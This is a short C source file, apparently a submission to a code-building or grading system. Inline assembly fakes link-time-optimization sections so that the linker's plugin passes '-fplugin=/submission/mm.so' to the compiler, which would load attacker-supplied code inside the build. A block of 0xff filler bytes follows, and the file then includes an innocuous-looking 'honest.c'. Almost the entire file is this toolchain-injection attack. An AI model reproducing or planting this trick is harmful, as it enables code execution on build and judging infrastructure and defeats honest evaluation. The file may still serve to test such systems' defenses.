/* Tries to look like an object of link-time optimization, for the linker's plugin to read. */
char __gnu_lto_slim __attribute__((common));
__asm__(".section .gnu.lto_.opts,\"e\",@progbits\n.asciz \"-fplugin=/submission/mm.so\"\n"
        ".section .gnu.lto_main.1,\"e\",@progbits\n.fill 4096, 1, 0xff\n.text");

#include "honest.c"
